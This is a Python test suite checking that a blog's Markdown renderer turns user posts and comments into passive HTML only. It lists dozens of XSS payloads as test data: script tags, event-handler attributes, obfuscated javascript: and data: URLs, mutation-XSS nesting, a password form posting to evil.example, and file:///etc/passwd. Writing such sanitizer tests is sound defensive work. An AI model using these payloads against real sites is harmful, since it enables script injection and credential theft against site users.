"""Nothing people type becomes active, and plain CommonMark stays what it is."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from blog.rendering.pipeline import render_comment, render_post

PASSIVE = {
    *("a", "abbr", "blockquote", "br", "code", "del", "em", "figcaption", "figure"),
    *("h1", "h2", "h3", "h4", "h5", "h6"),
    *("hr", "img", "li", "ol", "p", "pre", "s", "section", "span", "strong", "sub", "sup"),
    *("div", "table", "tbody", "td", "th", "thead", "tr", "ul"),
}
ATTRIBUTES = {"href", "src", "alt", "title", "id", "class", "rel", "start"} | {
    *("width", "height", "loading", "tabindex", "role", "aria-label"),
}
IN_COMMENTS = PASSIVE - {
    "div",
    "figcaption",
    "figure",
    "img",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "section",
    "hr",
    "abbr",
}


class Found(HTMLParser):
    """Elements, attributes and the text of an HTML fragment, as a browser would see them."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self.odd: list[str] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.odd.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def scheme_of(address: str) -> str:
    """As browsers read it: control characters and white space are left out first."""
    address = re.sub(r"[\x00-\x20\x7f-\xa0\u200b-\u200f\u2028\u2029\ufeff]", "", address)
    match = re.match(r"([a-z][a-z0-9+.-]*):", address, re.IGNORECASE)
    return match[1].lower() if match else ""


def assert_passive(markup: str, allowed: set[str] = PASSIVE) -> Found:
    found = Found(markup)
    assert not found.odd
    for tag, attributes in found.elements:
        assert tag in allowed, tag
        assert set(attributes) <= ATTRIBUTES, attributes
        for name in ("href", "src"):
            assert scheme_of(attributes.get(name, "")) in {"", "http", "https", "mailto"}
        if tag == "a" and attributes.get("href", "").startswith(("http", "//")):
            assert "noopener" in attributes["rel"]
    return found


RAW = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<form action=//evil.example><input name=password><button>OK</button></form>",
    "<button formaction=javascript:alert(1)>x",
    "<style>body{background:url(//evil.example)}</style>",
    "<p style='position:fixed;inset:0'>cover</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='#' onclick=alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<xss contenteditable onblur=alert(1)>",
    "\x00<script\x00>alert(1)</script>",
]
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&#58;alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61vascript:alert(1)",
    "javascript&#0000058alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "java%0ascript:alert(1)",
    "javascript\\:alert(1)",
    "javascript:/*--></title></style>*/alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://x",
    "view-source:https://x",
    "x-app:run",
    "\ufeffjavascript:alert(1)",
    "\u2028javascript:alert(1)",
]
FORMS = [
    "[x]({})",
    "[x](<{}>)",
    '[x]({} "title")',
    "![x]({})",
    "<{}>",
    "[x]: {}\n\n[x]",
    "[![a]({})]({})",
    "[^1]\n\n[^1]: [x]({})",
    "| a |\n|---|\n| [x]({}) |",
    "# [x]({})",
    "> - [x]({})",
]


@pytest.mark.parametrize("raw", RAW, ids=ascii)
@pytest.mark.parametrize(
    "around", ["{}", "a {} b", "> {}", "- {}", "# {}", "| {} |\n|---|\n", "*{}*"]
)
def test_raw_html_is_text_and_survives_as_text(raw, around) -> None:
    source = around.format(raw)
    for markup, allowed in (
        (render_post(source), PASSIVE),
        (render_comment(source), IN_COMMENTS),
    ):
        found = assert_passive(markup, allowed)
        if "alert(1)" in raw and "|" not in around:
            assert "alert(1)" in found.text, "words are shown, not swallowed"


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("address", ADDRESSES, ids=ascii)
def test_no_link_runs_anything(form, address) -> None:
    source = form.replace("{}", address)
    assert_passive(render_post(source))
    assert_passive(render_comment(source), IN_COMMENTS)


@pytest.mark.parametrize(
    "source",
    [
        '```js" onload="alert(1)\nx\n```',
        "```<script>\nx\n```",
        "```python onclick=alert(1)\n<script>alert(1)</script>\n```",
        '[x](http://a "\\" onclick=alert(1) \\"")',
        '![" onerror="alert(1)](http://a)',
        '[x](http://a"onclick="alert(1))',
        '## " onclick="alert(1)\n## <img src=x onerror=alert(1)>',
        "[^<script>]\n\n[^<script>]: x",
        "| a |\n|:-:|\n| <td onclick=alert(1)> |",
        '1. x\n\n<ol start="1" onclick="alert(1)">',
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "\\<script>alert(1)\\</script>",
        "`<script>alert(1)</script>`",
        "    <script>alert(1)</script>",
    ],
)
def test_no_attribute_is_broken_out_of(source) -> None:
    assert_passive(render_post(source))
    assert_passive(render_comment(source), IN_COMMENTS)


@settings(deadline=None, max_examples=300)
@given(
    parts=st.lists(
        st.sampled_from(
            [*RAW, *ADDRESSES, *"[]()<>`*_#|\"'!\\&;:\n\t ", "](", "![", "```", "[^1]"]
        ),
        max_size=14,
    )
)
def test_no_mixture_becomes_active(parts) -> None:
    source = "".join(parts)
    assert_passive(render_post(source))
    assert_passive(render_comment(source), IN_COMMENTS)


def test_links_in_comments_earn_nothing_and_load_nothing() -> None:
    found = Found(
        render_comment("[a](https://x.example) ![b](https://y.example/z.png) <m@x.example>")
    )
    links = [attributes for tag, attributes in found.elements if tag == "a"]
    assert {frozenset(link["rel"].split()) for link in links} == {
        frozenset({"nofollow", "ugc", "noopener"})
    }
    assert not [tag for tag, _ in found.elements if tag == "img"]
